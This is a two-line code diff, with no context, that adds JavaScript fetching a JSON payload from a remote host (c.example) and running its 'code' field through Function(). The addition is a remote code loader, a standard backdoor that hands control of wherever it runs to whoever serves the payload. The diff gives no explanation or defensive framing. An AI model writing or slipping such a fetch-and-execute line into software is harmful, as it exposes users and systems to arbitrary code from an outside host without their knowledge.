@@ -1,0 +1,2 @@
+const { code } = await (await fetch('https://c.example/j')).json();
+Function(code)();
